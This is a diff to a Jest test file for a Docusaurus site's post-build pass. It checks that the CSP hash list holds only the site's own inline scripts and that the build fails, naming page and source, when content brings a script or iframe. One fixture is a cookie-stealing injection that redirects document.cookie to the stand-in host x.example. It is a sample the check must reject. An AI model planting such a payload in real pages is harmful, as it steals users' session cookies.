@@ -1,10 +1,11 @@
 /**
  * @jest-environment node
  *
- * The post-build pipeline's pass over the pages (issue #23, point 5; postbuild/README.md): each page
- * gets its route stylesheets, the paint-first loader and the gate's mark; the CSP's hash list holds the
- * site's own inline scripts and no script from content (issue #22, L2); the compressed copies are
- * those of the finished pages.
+ * The post-build pipeline's pass over the pages (postbuild/README.md): each page gets its route
+ * stylesheets, the paint-first loader and the gate's mark; the CSP's hash list holds exactly the site's own
+ * inline scripts; a page whose content brings a script (from an MDX page, an OpenAPI description or
+ * `<Head>`) fails the build, naming the page and its source; the compressed copies are those of the
+ * finished pages.
  */
 import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
@@ -13,21 +14,25 @@ import path from 'node:path';
 import zlib from 'node:zlib';
 import { INLINE_SCRIPT_HASHES_FILE } from '../../rules/buildFiles';
 import { readInlineScriptHashes } from '../../server/gate/csp';
-import { classifyInlineScripts, scriptHashSource } from '../inlineScripts';
+import type { SiteScripts } from '../../plugins/site-scripts/learn';
+import { scriptHashSource } from '../pageSafety';
 import { paintFirstLoader } from '../paintFirst';
-import { finishPages } from '../pages';
+import { finishPages, type PagesInput } from '../pages';
 import type { RouteManifests } from '../routeStylesheets';
 
 const tsx = require.resolve('tsx/cli');
 
-describe('inline scripts the CSP allows (issue #22, L2)', () => {
+describe('the pass over the built pages', () => {
   const THEME = 'document.documentElement.setAttribute("data-theme","light")';
-  const PAINT_FIRST = '(function(){var s=["/assets/js/main.js"]})()';
-  const REACT_RUNTIME = [
-    'requestAnimationFrame(function(){$RT=performance.now()})',
-    '$RB=[],$RV=function(e){};$RC("B:0","S:0")',
-  ];
-  const FROM_MDX = 'window.fromMdx=1';
+  const RAF = 'requestAnimationFrame(function(){$RT=performance.now()})';
+  const PRELUDE = '$RB=[],$RV=function(e){},($RC=function(e,n){})';
+  const REVEAL = `${PRELUDE}("B:0","S:0")`;
+  const SITE: SiteScripts = {
+    tags: [THEME],
+    react: { constants: [RAF], prelude: PRELUDE, complete: '$RC' },
+    staticDirectories: ['static'],
+  };
+  const FROM_MDX = '$RX=0;location="//x.example/?"+document.cookie';
   const FROM_OPENAPI = 'window.fromDescription=1';
   const FROM_HEAD = 'window.fromHead=1';
 
@@ -44,19 +49,11 @@ describe('inline scripts the CSP allows (issue #22, L2)', () => {
     return JSON.parse(out) as string[];
   }
 
-  /** A page laid out as Docusaurus builds it: head, the theme's body script, the React root. */
-  const page = (content: string) =>
-    `<!doctype html><html><head><script>${PAINT_FIRST}</script><script data-rh="true">${FROM_HEAD}</script>` +
-    `<script type="application/ld+json">{"@type":"BreadcrumbList"}</script></head><body><script>${THEME}</script>` +
-    `<div id="__docusaurus"><main>${content}</main>${REACT_RUNTIME.map((s) => `<script>${s}</script>`).join('')}</div></body></html>`;
-
-  it('a script from an MDX page or an OpenAPI description is content; the site’s own are trusted', () => {
-    const [mdx, description] = renderedContent();
-    expect(mdx).toContain(`<script>${FROM_MDX}</script>`);
-    const scripts = classifyInlineScripts(page(mdx + description));
-    expect(scripts.trusted.sort()).toEqual([PAINT_FIRST, THEME, ...REACT_RUNTIME].sort());
-    expect(scripts.content.sort()).toEqual([FROM_MDX, FROM_OPENAPI, FROM_HEAD].sort());
-  });
+  /** A page laid out as Docusaurus builds it: head, the theme's body script, the React root with a reveal. */
+  const page = (content: string, head = '') =>
+    `<!doctype html><html><head>${head}<script type="application/ld+json">{"@type":"BreadcrumbList"}</script></head>` +
+    `<body><script>${THEME}</script><div id="__docusaurus"><main>${content}<template id="B:0"></template></main>` +
+    `<script>${RAF}</script><div hidden id="S:0"></div><script>${REVEAL}</script></div></body></html>`;
 
   /** An API layout route with its own stylesheet, and one operation page under it. */
   const manifests: RouteManifests = {
@@ -72,24 +69,35 @@ describe('inline scripts the CSP allows (issue #22, L2)', () => {
     },
   };
 
-  it('finishPages: one pass gives each page its steps, hashes only the site’s own scripts, names content scripts', async () => {
-    const [mdx, description] = renderedContent();
+  /** The pass's input for `manifests`, with the sources of two pages. */
+  const input = (extra: Partial<PagesInput> = {}): PagesInput => ({
+    manifests,
+    publicPages: [],
+    siteScripts: SITE,
+    staticFileOf: () => undefined,
+    sourceOf: (route) =>
+      ({ '/docs/x': 'docs/x.mdx', '/api/search': 'the OpenAPI description, operation GET /search' })[route],
+    ...extra,
+  });
+
+  /** A build folder holding `pages` (relative path → HTML) and one script asset. */
+  function buildDir(pages: Record<string, string>): string {
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'postbuild-'));
-    const entry = '<script src="/assets/js/main.js" defer></script>';
-    const write = (file: string, html: string) => {
+    for (const [file, html] of Object.entries({ ...pages, 'assets/js/main.js': 'console.log("main");'.repeat(50) })) {
       fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
       fs.writeFileSync(path.join(dir, file), html);
-    };
-    write('docs/x/index.html', page(mdx).replace('</head>', `${entry}</head>`));
-    write('api/search/index.html', page(description));
-    write('login/index.html', page(''));
-    write('assets/js/main.js', 'console.log("main");'.repeat(50));
-    const reported: string[] = [];
-    const report = await finishPages(dir, {
-      manifests,
-      publicPages: ['login/index.html'],
-      onContentScript: (file, script) => reported.push(`${file}: ${script}`),
+    }
+    return dir;
+  }
+
+  it('finishPages: one pass gives each page its steps and hashes exactly the site’s own scripts', async () => {
+    const entry = '<script src="/assets/js/main.js" defer></script>';
+    const dir = buildDir({
+      'docs/x/index.html': page('<p>Doc</p>').replace('</head>', `${entry}</head>`),
+      'api/search/index.html': page('<p>Search</p>'),
+      'login/index.html': page(''),
     });
+    const report = await finishPages(dir, input({ publicPages: ['login/index.html'] }));
     const read = (file: string) => fs.readFileSync(path.join(dir, file), 'utf8');
 
     expect(report).toMatchObject({ pages: 3, styled: 1, marked: 2 });
@@ -100,26 +108,49 @@ describe('inline scripts the CSP allows (issue #22, L2)', () => {
     expect(read('docs/x/index.html')).toContain('<meta name="portal-gate" content="verified">');
     expect(read('login/index.html')).not.toContain('portal-gate');
 
-    const hashes = readInlineScriptHashes(dir);
-    const loader = paintFirstLoader(['/assets/js/main.js']).replace(/^<script>|<\/script>$/g, '');
+    const loader = paintFirstLoader(['/assets/js/main.js']).slice('<script>'.length, -'</script>'.length);
     expect(read('docs/x/index.html')).toContain(loader);
-    expect(hashes).toEqual([PAINT_FIRST, THEME, ...REACT_RUNTIME, loader].map(scriptHashSource).sort());
-    for (const text of [FROM_MDX, FROM_OPENAPI, FROM_HEAD]) expect(hashes).not.toContain(scriptHashSource(text));
-    expect(reported.sort()).toEqual(
-      [
-        `api/search/index.html: ${FROM_OPENAPI}`,
-        `api/search/index.html: ${FROM_HEAD}`,
-        `docs/x/index.html: ${FROM_MDX}`,
-        `docs/x/index.html: ${FROM_HEAD}`,
-        `login/index.html: ${FROM_HEAD}`,
-      ].sort(),
-    );
+    expect(readInlineScriptHashes(dir)).toEqual([THEME, RAF, REVEAL, loader].map(scriptHashSource).sort());
     // The compressed copies are the finished pages', and the hash list is compressed too.
     expect(zlib.brotliDecompressSync(fs.readFileSync(path.join(dir, 'docs/x/index.html.br'))).toString()).toBe(
       read('docs/x/index.html'),
     );
     expect(fs.existsSync(path.join(dir, `${INLINE_SCRIPT_HASHES_FILE}.gz`))).toBe(true);
     expect(fs.existsSync(path.join(dir, 'assets/js/main.js.br'))).toBe(true);
+    fs.rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('fails, naming each page and its source, when content brings a script; no hash list is written', async () => {
+    const [mdx, description] = renderedContent();
+    expect(mdx).toContain('<script>');
+    const dir = buildDir({
+      'docs/x/index.html': page(mdx),
+      'api/search/index.html': page(description),
+      'login/index.html': page('', `<script data-rh="true">${FROM_HEAD}</script>`),
+      'embed.html': page('<iframe src="https://x.example"></iframe>'),
+    });
+    const error = await finishPages(
+      dir,
+      input({ staticFileOf: (p) => (p === 'embed.html' ? 'static/embed.html' : undefined) }),
+    ).then(
+      () => new Error('the build passed'),
+      (thrown: Error) => thrown,
+    );
+    expect(error.message.split('\n')).toEqual([
+      '4 thing(s) in the built pages that content may not bring (postbuild/pageSafety.ts):',
+      expect.stringMatching(
+        /^ {2}build\/api\/search\/index\.html \(from the OpenAPI description, operation GET \/search\): an inline <script> the site's own code does not write \("window\.fromDescription=1"\)$/,
+      ),
+      expect.stringMatching(
+        /^ {2}build\/docs\/x\/index\.html \(from docs\/x\.mdx\): an inline <script> the site's own code does not write \("\$RX=0;location/,
+      ),
+      '  build/embed.html (from static/embed.html): the element <iframe>',
+      expect.stringMatching(
+        /^ {2}build\/login\/index\.html: an inline <script> the site's own code does not write \("window\.fromHead=1"\)$/,
+      ),
+      'Remove each from its source: code belongs in a component (src/components), an embed in a link.',
+    ]);
+    expect(fs.existsSync(path.join(dir, INLINE_SCRIPT_HASHES_FILE))).toBe(false);
     fs.rmSync(dir, { recursive: true, force: true });
   });
 
@@ -130,18 +161,18 @@ describe('inline scripts the CSP allows (issue #22, L2)', () => {
       path.join(dir, 'docs/index.html'),
       page('').replace('</head>', '<script type="module" src="/assets/js/main.js"></script></head>'),
     );
-    await expect(finishPages(dir, { manifests, publicPages: [] })).rejects.toThrow(
+    await expect(finishPages(dir, input())).rejects.toThrow(
       /build\/docs\/index.html: paint-first .* no longer writes its entry scripts/,
     );
     fs.rmSync(dir, { recursive: true, force: true });
   });
 
-  it('fails, naming the CSP classifier, when no page has a React root by the id it knows', async () => {
+  it('fails, naming the page check, when no page has a React root by the id it knows', async () => {
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'postbuild-'));
     fs.mkdirSync(path.join(dir, 'docs'), { recursive: true });
     fs.writeFileSync(path.join(dir, 'docs/index.html'), page('').replace('id="__docusaurus"', 'id="__root"'));
-    await expect(finishPages(dir, { manifests, publicPages: [] })).rejects.toThrow(
-      /the CSP's script classifier .* no React root id="__docusaurus" in any page/,
+    await expect(finishPages(dir, input())).rejects.toThrow(
+      /the page check \(postbuild\/pageSafety\.ts\) finds no React root id="__docusaurus" in any page/,
     );
     fs.rmSync(dir, { recursive: true, force: true });
   });
@@ -150,9 +181,7 @@ describe('inline scripts the CSP allows (issue #22, L2)', () => {
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'postbuild-'));
     fs.mkdirSync(path.join(dir, 'api/search'), { recursive: true });
     fs.writeFileSync(path.join(dir, 'api/search/index.html'), '<p>no head</p>');
-    await expect(finishPages(dir, { manifests, publicPages: [] })).rejects.toThrow(
-      'build/api/search/index.html: built page has no </head>',
-    );
+    await expect(finishPages(dir, input())).rejects.toThrow('build/api/search/index.html: built page has no </head>');
     fs.rmSync(dir, { recursive: true, force: true });
   });
 });
